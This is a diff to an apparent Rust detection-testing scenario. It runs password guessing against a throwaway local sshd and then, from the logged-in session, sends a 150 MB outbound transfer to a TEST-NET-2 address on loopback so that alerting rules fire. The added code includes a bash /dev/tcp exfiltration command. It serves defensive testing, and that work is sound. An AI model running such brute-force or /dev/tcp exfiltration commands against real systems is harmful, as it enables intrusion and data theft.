@@ -1,9 +1,11 @@
 //! Credential stuffing against a real sshd (Debian's openssh-server) that the scenario starts
 //! on a free 127.0.0.1 port with a temporary host key and config, logging with `-E` to the
-//! file the stack's guardian-alpha follows; then a successful login and a bulk transfer.
+//! file the stack's guardian-alpha follows; then a successful login and, from the ssh session,
+//! a large outbound transfer to an "external" address (TEST-NET-2, added to `lo` for the
+//! scenario, so the data never leaves the host but is not loopback traffic to the rules).
 
 use std::{
-    net::TcpStream,
+    net::{TcpListener, TcpStream},
     path::Path,
     process::{Command, Stdio},
     time::{Duration, Instant},
@@ -17,9 +19,13 @@ use crate::run::stack::{Stack, free_loopback_address, output_of};
 pub const CREDENTIAL_STUFFING: Scenario = Scenario {
     name: "ssh-credential-stuffing",
     technique: "T1110.001",
-    description: "six wrong passwords against a real sshd on 127.0.0.1, then a login and a 50 MB transfer",
+    description: "six wrong passwords against a real sshd on 127.0.0.1, then a login that sends 150 MB to 198.51.100.88",
     expect: Expect {
-        rules: &["qsc-auth-failures-burst", "qsc-login-after-failures"],
+        rules: &[
+            "qsc-auth-failures-burst",
+            "qsc-login-after-failures",
+            "qsc-large-outbound-transfer",
+        ],
         min_severity: Severity::Critical,
         confidence: (0.99, 1.0),
         action: Some("revoke_credential"),
@@ -32,6 +38,11 @@ pub const CREDENTIAL_STUFFING: Scenario = Scenario {
 const SSHD: &str = "/usr/sbin/sshd";
 /// Wrong passwords tried before the right one (the burst rule needs five).
 const FAILURES: usize = 6;
+/// Where the logged-in session sends its data: TEST-NET-2 (not a private range, so the
+/// outbound-transfer rule counts it as leaving the host), on `lo` for the scenario only.
+const EXFIL_ADDRESS: &str = "198.51.100.88";
+/// Bytes sent: above the 100 MB of `qsc-large-outbound-transfer`.
+const EXFIL_BYTES: usize = 150_000_000;
 
 fn credential_stuffing(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
     if !Path::new(SSHD).exists() {
@@ -57,15 +68,54 @@ fn credential_stuffing(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Resu
             bail!("a wrong password was accepted");
         }
     }
-    let out = ssh(&user, &port, &password, "head -c 50000000 /dev/zero").output()?;
-    if !out.status.success() || out.stdout.len() != 50_000_000 {
+    cleanup.loopback_address(EXFIL_ADDRESS)?;
+    let (exfil_port, received) = receive_exfiltration()?;
+    let command = format!(
+        "bash -c 'head -c {EXFIL_BYTES} /dev/zero > /dev/tcp/{EXFIL_ADDRESS}/{exfil_port}'"
+    );
+    let out = ssh(&user, &port, &password, &command).output()?;
+    if !out.status.success() {
         bail!(
-            "the login with the right password failed ({}): {}",
+            "the login with the right password, or its transfer, failed ({}): {}",
             out.status,
             String::from_utf8_lossy(&out.stderr).trim()
         );
     }
+    let received = received
+        .join()
+        .map_err(|_| anyhow::anyhow!("the receiving thread panicked"))??;
+    if received != EXFIL_BYTES {
+        bail!("the transfer delivered {received} of {EXFIL_BYTES} bytes");
+    }
     Ok(())
+}
+
+/// A listener on the exfiltration address whose thread reads one connection to its end;
+/// returns its port and the thread (which answers the number of bytes received).
+fn receive_exfiltration() -> anyhow::Result<(u16, std::thread::JoinHandle<anyhow::Result<usize>>)> {
+    let listener = TcpListener::bind((EXFIL_ADDRESS, 0))
+        .with_context(|| format!("cannot listen on {EXFIL_ADDRESS}"))?;
+    let port = listener.local_addr()?.port();
+    listener.set_nonblocking(true)?;
+    let thread = std::thread::spawn(move || -> anyhow::Result<usize> {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        let mut conn = loop {
+            match listener.accept() {
+                Ok((conn, _)) => break conn,
+                Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {
+                    if Instant::now() > deadline {
+                        bail!("nothing connected to {EXFIL_ADDRESS} within 30 s");
+                    }
+                    std::thread::sleep(Duration::from_millis(20));
+                }
+                Err(err) => return Err(err.into()),
+            }
+        };
+        conn.set_nonblocking(false)?;
+        conn.set_read_timeout(Some(Duration::from_secs(30)))?;
+        Ok(std::io::copy(&mut conn, &mut std::io::sink())? as usize)
+    });
+    Ok((port, thread))
 }
 
 /// Starts the scenario's sshd; returns its address once it accepts connections.
